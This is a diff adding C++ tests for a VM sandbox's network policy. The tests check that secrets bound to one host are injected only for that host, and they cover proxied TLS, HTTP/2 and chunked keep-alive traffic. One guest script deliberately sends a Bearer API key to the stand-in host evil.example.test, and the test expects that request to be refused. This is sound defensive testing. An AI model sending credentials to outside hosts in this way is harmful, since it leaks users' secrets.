@@ -576,6 +576,106 @@ TEST_F(VmNetworkPython, ASecretReachesOnlyItsHostAndTheGuestNeverHoldsIt) {
   run_moat({"rm", "-f", id});
 }
 
+// --tls-proxy: the guest reaches the server through an HTTP proxy (CONNECT)
+// on the host. The tunnel's target meets the policy before the proxy sees
+// it, and the secret is bound by that target: the server gets the value.
+TEST_F(VmNetworkPython, ASecretReachesItsHostThroughADeclaredProxy) {
+  std::string dir = test_home() + "/tls-pki";
+  TestPki pki = test_pki(dir, "api.example.test");
+  HostServer api("https", "127.0.0.1", {served_dir(), pki.cert, pki.key});
+  HostServer proxy("proxy", "127.0.0.1");
+  const std::string value = "sk-proxy-REAL-4242";
+  auto created = run_moat({"create", "--allow", "host.moat.internal:" + proxy.p(), "--deny", "evil.example.test",
+                           "--secret", "API_KEY@api.example.test", "--tls-proxy", "host.moat.internal:" + proxy.p(),
+                           "--tls-ports", api.p(), "--tls-upstream-ca", pki.ca, python_},
+                          "", {"API_KEY=" + value});
+  ASSERT_EQ(created.exit_code, 0) << created.err;
+  std::string id = created.out.substr(0, created.out.find('\n'));
+  ASSERT_EQ(run_moat({"start", id}).exit_code, 0);
+  auto o = run_moat({"exec", id, "--", "python3", "-c",
+                     "import os, urllib.request\n"
+                     "key = os.environ['API_KEY']\n"
+                     "opener = urllib.request.build_opener(urllib.request.ProxyHandler(\n"
+                     "    {'https': 'http://host.moat.internal:" + proxy.p() + "'}))\n"
+                     "def get(host, path):\n"
+                     "    r = urllib.request.Request('https://%s:" + api.p() + "%s' % (host, path),\n"
+                     "                               headers={'Authorization': 'Bearer ' + key})\n"
+                     "    try: return opener.open(r, timeout=30).read().decode().strip()\n"
+                     "    except Exception as e: return 'refused: %s' % e\n"
+                     "print(get('api.example.test', '/small'))\n"
+                     "print(get('api.example.test', '/echo-auth'))\n"
+                     "print(get('evil.example.test', '/small'))\n"});
+  EXPECT_EQ(o.exit_code, 0) << o.err;
+  EXPECT_EQ(o.out, "hello from the host\nBearer " + std::string(value.size(), '*') +
+                       "\nrefused: <urlopen error Tunnel connection failed: 403 Forbidden>\n")
+      << run_moat({"logs", id}).out;
+  EXPECT_NE(api.seen().find("auth Bearer " + value + "\n"), std::string::npos) << api.seen();
+  EXPECT_EQ(proxy.seen(), "connect api.example.test:" + api.p() + "\nconnect api.example.test:" + api.p() + "\n")
+      << "the refused tunnel never reached the proxy";
+  auto logs = run_moat({"logs", id});
+  EXPECT_NE(logs.out.find(": the tunnel to evil.example.test:" + api.p() + " is refused: --deny evil.example.test"),
+            std::string::npos)
+      << logs.out;
+  EXPECT_EQ(logs.out.find(value), std::string::npos);
+  run_moat({"rm", "-f", id});
+}
+
+// HTTP/2 end to end through interception (the server speaks only h2), and
+// HTTP/1.1 keep-alive with chunked request and response bodies to a host a
+// secret is bound to, whose headers are rewritten on every request.
+TEST_F(VmNetworkPython, Http2AndKeepAliveChunkedBodiesPassThroughInterception) {
+  std::string dir = test_home() + "/tls-pki";
+  TestPki h2_pki = test_pki(dir, "h2.example.test");
+  TestPki api_pki = test_pki(dir, "api.example.test");
+  std::string www = test_home() + "/www-h2";
+  std::filesystem::create_directories(www);
+  std::string medium = random_bytes(3u << 20);
+  std::ofstream(www + "/medium", std::ios::binary) << medium;
+  HostServer h2("h2", "127.0.0.1", {www, h2_pki.cert, h2_pki.key});
+  HostServer api("https11", "127.0.0.1", {www, api_pki.cert, api_pki.key});
+  // Both certificates come from one test CA (test_pki's dir).
+  const std::string value = "sk-chunk-REAL-77";
+  auto created = run_moat({"create", "--add-host", "h2.example.test:host-gateway", "--add-host",
+                           "api.example.test:host-gateway", "--allow", "@host", "--tls-intercept", "--tls-ports",
+                           h2.p() + "," + api.p(), "--tls-upstream-ca", api_pki.ca, "--secret",
+                           "API_KEY@api.example.test", python_},
+                          "", {"API_KEY=" + value});
+  ASSERT_EQ(created.exit_code, 0) << created.err;
+  std::string id = created.out.substr(0, created.out.find('\n'));
+  ASSERT_EQ(run_moat({"start", id}).exit_code, 0);
+  std::string api_url = "https://api.example.test:" + api.p();
+  auto o = run_moat({"exec", id, "--", "sh", "-c",
+                     "curl -sS --http2 -o /tmp/medium -w '%{http_version}\\n' https://h2.example.test:" + h2.p() +
+                         "/medium && sha256sum < /tmp/medium && "
+                         "head -c 300000 /dev/urandom > /tmp/up && sha256sum < /tmp/up && "
+                         "curl -sS -H 'Transfer-Encoding: chunked' -H \"Authorization: Bearer $API_KEY\" "
+                         "--data-binary @/tmp/up -w '%{num_connects}\\n' " +
+                         api_url + "/a " + api_url + "/b"});
+  EXPECT_EQ(o.exit_code, 0) << o.err << run_moat({"logs", id}).out;
+  std::istringstream lines(o.out);
+  std::string version, medium_sha, up_sha, first, first_connects, second, second_connects;
+  std::getline(lines, version);
+  std::getline(lines, medium_sha);
+  std::getline(lines, up_sha);
+  std::getline(lines, first);
+  std::getline(lines, first_connects);
+  std::getline(lines, second);
+  std::getline(lines, second_connects);
+  EXPECT_EQ(version, "2") << o.out;
+  EXPECT_EQ(medium_sha, sha256_hex(medium) + "  -");
+  ASSERT_EQ(up_sha.size(), 67u) << o.out;
+  std::string expected = "chunked 300000 " + up_sha.substr(0, 64) + " Bearer " + std::string(value.size(), '*');
+  EXPECT_EQ(first, expected) << o.out;
+  EXPECT_EQ(second, expected) << o.out;
+  EXPECT_EQ(first_connects, "1");
+  EXPECT_EQ(second_connects, "0") << "the second request reused the connection";
+  std::string seen = api.seen();
+  std::size_t auth = seen.find("auth Bearer " + value + "\n");
+  ASSERT_NE(auth, std::string::npos) << seen;
+  EXPECT_NE(seen.find("auth Bearer " + value + "\n", auth + 1), std::string::npos) << "both requests: " << seen;
+  run_moat({"rm", "-f", id});
+}
+
 TEST_F(VmNetworkPython, UpstreamResolverAnswersAndRebindingIsDropped) {
   HostServer dns("dns", "127.0.0.1", {"pub.example=93.184.216.34", "rebind.example=127.0.0.1",
                                       "allowed.example=127.0.0.2"});
